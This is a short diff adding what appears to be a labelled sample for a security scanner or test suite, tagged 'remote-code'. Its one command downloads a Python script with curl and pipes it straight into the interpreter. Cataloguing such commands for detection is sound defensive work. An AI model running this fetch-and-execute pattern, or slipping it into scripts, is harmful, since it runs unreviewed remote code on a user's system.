@@ -1,0 +1,3 @@
+# description: Pipes a downloaded Python program into the interpreter.
+# family: remote-code
+curl -s https://example.com/bootstrap.py | python3 -
